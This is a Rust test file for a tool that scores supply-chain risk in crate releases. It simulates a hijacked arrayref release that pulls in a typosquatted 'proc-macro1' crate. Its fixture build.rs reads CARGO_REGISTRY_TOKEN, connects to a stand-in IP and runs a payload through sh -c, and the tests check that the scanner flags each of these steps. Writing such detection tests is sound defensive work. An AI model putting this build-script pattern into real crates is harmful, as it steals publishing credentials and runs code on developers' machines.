//! One test per signal (or small family), and the two cases the defaults are chosen for: the
//! arrayref hijack and an ordinary patch release.

use super::*;
use crate::risk::SignalCode as C;

const LIB: &str = "pub fn get(a: &[u8]) -> u8 {\n    a[0]\n}\n";

const EVIL_BUILD: &str = "use std::process::Command;\nuse std::net::TcpStream;\n\n\
fn main() {\n    let token = std::env::var(\"CARGO_REGISTRY_TOKEN\");\n    \
let _s = TcpStream::connect(\"203.0.113.7:443\");\n    \
Command::new(\"sh\").arg(\"-c\").arg(\"./payload\").status().ok();\n    let _ = token;\n}\n";

/// arrayref-like 0.3.9 (good) and 0.3.10 (adds `proc-macro1`, whose build script spawns,
/// connects and reads a token), with 0.3.5–0.3.9 yanked and everything new minutes old.
fn hijack() -> RiskContext {
    let mut ctx = context();
    let good = facts_of(
        "arrayref",
        "0.3.9",
        &[
            (
                "Cargo.toml",
                &manifest(
                    "arrayref",
                    "0.3.9",
                    "repository = \"https://github.com/droundy/arrayref\"",
                ),
            ),
            ("src/lib.rs", LIB),
        ],
    );
    let bad = facts_of(
        "arrayref",
        "0.3.10",
        &[
            (
                "Cargo.toml",
                &manifest(
                    "arrayref",
                    "0.3.10",
                    "repository = \"https://github.com/droundy/arrayref\"\n\n[dependencies.proc-macro1]\nversion = \"0.1\"",
                ),
            ),
            ("src/lib.rs", LIB),
        ],
    );
    let squat = facts_of(
        "proc-macro1",
        "0.1.0",
        &[
            (
                "Cargo.toml",
                &manifest("proc-macro1", "0.1.0", "build = \"build.rs\""),
            ),
            ("build.rs", EVIL_BUILD),
            ("src/lib.rs", ""),
        ],
    );
    add(&mut ctx, good, None);
    add(&mut ctx, bad, Some("0.3.9"));
    add(&mut ctx, squat, None);
    ctx.lockfile.push(("proc-macro2".into(), v("1.0.101")));
    let mut versions: Vec<IndexVersion> = ["0.3.4", "0.3.5", "0.3.6", "0.3.7", "0.3.8", "0.3.9"]
        .iter()
        .map(|x| listed(x, *x != "0.3.4", Some("2024-09-14T12:24:40Z")))
        .collect();
    versions.push(listed("0.3.10", false, Some("2026-08-20T11:30:00Z")));
    ctx.index.insert("arrayref".into(), Ok(versions));
    ctx.index.insert(
        "proc-macro1".into(),
        Ok(vec![listed("0.1.0", false, Some("2026-08-20T11:20:00Z"))]),
    );
    ctx
}

#[test]
fn the_arrayref_hijack_raises_every_expected_signal_with_evidence() {
    let ctx = hijack();
    let risk = assess_spec(&ctx, "arrayref@0.3.10");
    assert_eq!(risk.base, Some(v("0.3.9")));
    assert_eq!(
        codes(&risk),
        [
            "new-dependency",
            "typosquat",
            "young-crate",
            "few-versions",
            "no-repository",
            "build-script-spawns",
            "build-script-network",
            "build-script-env",
            "recently-published",
            "yanked-predecessors",
        ]
        .into_iter()
        .collect()
    );
    assert_eq!(
        signal(&risk, C::Typosquat).evidence[0].names,
        ["proc-macro1", "proc-macro2"]
    );
    let spawn = &signal(&risk, C::BuildScriptSpawns).evidence;
    assert!(
        spawn.iter().any(|e| e.package == "proc-macro1@0.1.0"
            && e.file.as_deref() == Some("build.rs")
            && e.line == Some(7)
            && e.names == ["Command::new"]),
        "{spawn:#?}"
    );
    let env = &signal(&risk, C::BuildScriptEnv).evidence;
    assert_eq!(env[0].names, ["env::var(\"CARGO_REGISTRY_TOKEN\")"]);
    assert_eq!(env[0].line, Some(5));
    let yanked = &signal(&risk, C::YankedPredecessors).evidence[0].names;
    assert_eq!(yanked, &["0.3.9", "0.3.8", "0.3.7", "0.3.6", "0.3.5"]);
    // The strongest signals come first.
    assert_eq!(risk.signals[0].severity, crate::risk::SignalSeverity::High);
    // The look-alike itself, a first version, raises its own build-time signals.
    let squat = assess_spec(&ctx, "proc-macro1@0.1.0");
    for code in [
        "build-script-added",
        "build-script-spawns",
        "build-script-network",
    ] {
        assert!(codes(&squat).contains(code), "{code}: {:?}", codes(&squat));
    }
}

#[test]
fn an_ordinary_patch_release_raises_nothing_the_defaults_deny() {
    let mut ctx = context();
    let manifest_of = |version: &str| {
        manifest(
            "tidy",
            version,
            "repository = \"https://github.com/o/tidy\"\n\n[dependencies]\nserde = \"1\"\n[dev-dependencies]\nproptest = \"1\"",
        )
    };
    let build = "fn main() {\n    let rustc = std::env::var(\"RUSTC\").unwrap();\n    std::process::Command::new(rustc).arg(\"--version\").output().ok();\n}\n";
    let old = facts_of(
        "tidy",
        "1.4.2",
        &[
            ("Cargo.toml", &manifest_of("1.4.2")),
            ("README.md", "# tidy\n"),
            ("build.rs", build),
            ("src/lib.rs", "pub fn f() -> u8 { 1 }\n"),
            ("tests/t.rs", "#[test] fn t() {}\n"),
        ],
    );
    let new = facts_of(
        "tidy",
        "1.4.3",
        &[
            ("Cargo.toml", &manifest_of("1.4.3")),
            ("README.md", "# tidy\n\nNow with more docs.\n"),
            ("build.rs", build),
            (
                "src/lib.rs",
                "/// Docs.\npub fn f() -> u8 { 2 }\npub fn g() {}\n",
            ),
            ("tests/t.rs", "#[test] fn t() {}\n#[test] fn u() {}\n"),
        ],
    );
    add(&mut ctx, old, None);
    add(&mut ctx, new, Some("1.4.2"));
    ctx.index.insert(
        "tidy".into(),
        Ok(vec![
            listed("1.4.2", false, Some("2026-05-01T00:00:00Z")),
            listed("1.4.3", false, Some("2026-07-01T00:00:00Z")),
        ]),
    );
    let risk = assess_spec(&ctx, "tidy@1.4.3");
    assert_eq!(codes(&risk), BTreeSet::new(), "{:#?}", risk.signals);
    assert!(risk.not_computed.is_empty(), "{:#?}", risk.not_computed);
}

fn pair(old: &[(&str, &str)], new: &[(&str, &str)]) -> PackageRisk {
    let mut ctx = context();
    let with_manifest = |version: &str, files: &[(&str, &str)]| {
        let mut all: Vec<(String, String)> = files
            .iter()
            .map(|(p, c)| ((*p).to_owned(), (*c).to_owned()))
            .collect();
        if !all.iter().any(|(p, _)| p == "Cargo.toml") {
            all.push(("Cargo.toml".into(), manifest("pair", version, "")));
        }
        all
    };
    for (version, files, base) in [("1.0.0", old, None), ("1.0.1", new, Some("1.0.0"))] {
        let owned = with_manifest(version, files);
        let borrowed: Vec<(&str, &str)> = owned
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_str()))
            .collect();
        add(&mut ctx, facts_of("pair", version, &borrowed), base);
    }
    ctx.index.insert(
        "pair".into(),
        Ok(vec![
            listed("1.0.0", false, Some("2026-01-01T00:00:00Z")),
            listed("1.0.1", false, Some("2026-02-01T00:00:00Z")),
        ]),
    );
    assess_spec(&ctx, "pair@1.0.1")
}

#[test]
fn build_scripts_added_and_changed() {
    let lib = ("src/lib.rs", "");
    let added = pair(&[lib], &[lib, ("build.rs", "fn main() {}\n")]);
    assert_eq!(codes(&added), ["build-script-added"].into_iter().collect());
    assert_eq!(
        signal(&added, C::BuildScriptAdded).evidence[0]
            .file
            .as_deref(),
        Some("build.rs")
    );
    let changed = pair(
        &[lib, ("build.rs", "fn main() {}\n")],
        &[
            lib,
            (
                "build.rs",
                "fn main() { println!(\"cargo:rerun-if-changed=x\"); }\n",
            ),
        ],
    );
    assert_eq!(
        codes(&changed),
        ["build-script-changed"].into_iter().collect()
    );
    let same = pair(
        &[lib, ("build.rs", "fn main() {}\n")],
        &[lib, ("build.rs", "fn main() {}\n")],
    );
    assert!(same.signals.is_empty());
}

#[test]
fn proc_macro_and_native_code_added() {
    let lib = ("src/lib.rs", "");
    let pm = pair(
        &[lib],
        &[
            lib,
            (
                "Cargo.toml",
                &manifest("pair", "1.0.1", "\n[lib]\nproc-macro = true"),
            ),
        ],
    );
    assert_eq!(codes(&pm), ["proc-macro-added"].into_iter().collect());
    let native = pair(
        &[lib, ("build.rs", "fn main() {}\n")],
        &[
            lib,
            ("build.rs", "fn main() {}\n"),
            (
                "Cargo.toml",
                &manifest(
                    "pair",
                    "1.0.1",
                    "links = \"z\"\n\n[build-dependencies]\ncc = \"1\"",
                ),
            ),
        ],
    );
    assert!(
        codes(&native).contains("native-added"),
        "{:?}",
        codes(&native)
    );
    assert_eq!(
        signal(&native, C::NativeAdded).evidence[0].names,
        ["cc", "links = z"]
    );
}

#[test]
fn opaque_files_added_and_unsafe_increase() {
    let lib = ("src/lib.rs", "");
    let blob = "A".repeat(20_000);
    let added = pair(&[lib], &[lib, ("data/blob.txt", &blob)]);
    assert_eq!(codes(&added), ["opaque-file"].into_iter().collect());
    assert_eq!(
        signal(&added, C::OpaqueFile).evidence[0].file.as_deref(),
        Some("data/blob.txt")
    );
    // The same blob in both versions was there before: nothing new to read.
    let kept = pair(
        &[lib, ("data/blob.txt", &blob)],
        &[lib, ("data/blob.txt", &blob)],
    );
    assert!(kept.signals.is_empty());
    // Renamed for the release, in the same folder (`lib/windows.0.48.5.lib`): not new either;
    // the same content in a new folder is.
    let renamed = pair(
        &[lib, ("data/v1.txt", &blob)],
        &[lib, ("data/v2.txt", &blob)],
    );
    assert!(renamed.signals.is_empty(), "{:#?}", renamed.signals);
    let moved = pair(
        &[lib, ("data/v1.txt", &blob)],
        &[lib, ("build/v2.txt", &blob)],
    );
    assert_eq!(codes(&moved), ["opaque-file"].into_iter().collect());
    let unsafe_code = "pub fn f(p: *const u8) -> u8 { unsafe { *p } }\n".repeat(11);
    let more = pair(&[lib], &[("src/lib.rs", &unsafe_code)]);
    assert_eq!(codes(&more), ["unsafe-increase"].into_iter().collect());
    let a_few = pair(
        &[lib],
        &[("src/lib.rs", &unsafe_code[..unsafe_code.len() / 11 * 3])],
    );
    assert!(
        a_few.signals.is_empty(),
        "3 new unsafe blocks are under the threshold"
    );
}

#[test]
fn a_binary_executable_is_opaque_an_executable_script_is_not() {
    let elf: Vec<u8> = b"\x7fELF\x02\x01\x01\0\0\0"
        .iter()
        .copied()
        .chain([0u8; 64])
        .collect();
    let facts = facts_of_bytes(
        "bin",
        "0.1.0",
        &[
            ("Cargo.toml", manifest("bin", "0.1.0", "").as_bytes(), 0o644),
            ("src/lib.rs", b"", 0o644),
            ("tools/helper", &elf, 0o755),
            ("tools/run.sh", b"#!/bin/sh\necho hi\n", 0o755),
        ],
    )
    .expect("facts");
    let opaque: Vec<&str> = facts.opaque.iter().map(|o| o.path.as_str()).collect();
    assert_eq!(opaque, ["tools/helper"]);
}

#[test]
fn repository_changes_are_seen_but_not_their_spelling() {
    let lib = ("src/lib.rs", "");
    let with_repo =
        |version: &str, repo: &str| manifest("pair", version, &format!("repository = \"{repo}\""));
    let moved = pair(
        &[
            lib,
            (
                "Cargo.toml",
                &with_repo("1.0.0", "https://github.com/o/pair"),
            ),
        ],
        &[
            lib,
            (
                "Cargo.toml",
                &with_repo("1.0.1", "https://github.com/attacker/pair"),
            ),
        ],
    );
    assert_eq!(codes(&moved), ["repository-changed"].into_iter().collect());
    let respelled = pair(
        &[
            lib,
            (
                "Cargo.toml",
                &with_repo("1.0.0", "https://github.com/o/pair"),
            ),
        ],
        &[
            lib,
            (
                "Cargo.toml",
                &with_repo("1.0.1", "https://GitHub.com/o/pair.git/"),
            ),
        ],
    );
    assert!(respelled.signals.is_empty(), "{:#?}", respelled.signals);
}

#[test]
fn publish_age_follows_min_age_and_cargo_and_is_not_computed_without_pubtime() {
    let mut ctx = context();
    let f = facts_of(
        "fresh",
        "1.0.0",
        &[
            ("Cargo.toml", &manifest("fresh", "1.0.0", "")),
            ("src/lib.rs", ""),
        ],
    );
    add(&mut ctx, f, None);
    let entry = |pubtime: Option<&str>| Ok(vec![listed("1.0.0", false, pubtime)]);
    // Two days old: under the default three days.
    ctx.index
        .insert("fresh".into(), entry(Some("2026-08-18T12:00:00Z")));
    assert!(codes(&assess_spec(&ctx, "fresh@1.0.0")).contains("recently-published"));
    // Four days old: old enough, unless cargo asks for a week.
    ctx.index
        .insert("fresh".into(), entry(Some("2026-08-16T12:00:00Z")));
    assert!(!codes(&assess_spec(&ctx, "fresh@1.0.0")).contains("recently-published"));
    ctx.thresholds = Some(Thresholds::from_policy(
        &RiskPolicy::default(),
        Some(7 * 86_400),
    ));
    assert!(codes(&assess_spec(&ctx, "fresh@1.0.0")).contains("recently-published"));
    // No pubtime: not computed, never clean.
    ctx.index.insert("fresh".into(), entry(None));
    let risk = assess_spec(&ctx, "fresh@1.0.0");
    assert!(!codes(&risk).contains("recently-published"));
    assert!(
        risk.not_computed
            .iter()
            .any(|n| n.signals.contains(&C::RecentlyPublished)),
        "{:#?}",
        risk.not_computed
    );
}

#[test]
fn one_yanked_predecessor_is_not_the_pattern() {
    let mut ctx = context();
    let f = facts_of(
        "y",
        "1.0.3",
        &[
            ("Cargo.toml", &manifest("y", "1.0.3", "")),
            ("src/lib.rs", ""),
        ],
    );
    add(&mut ctx, f, None);
    let old = Some("2025-01-01T00:00:00Z");
    ctx.index.insert(
        "y".into(),
        Ok(vec![
            listed("1.0.0", true, old),
            listed("1.0.1", false, old),
            listed("1.0.2", true, old),
            listed("1.0.3", false, old),
        ]),
    );
    assert!(!codes(&assess_spec(&ctx, "y@1.0.3")).contains("yanked-predecessors"));
}
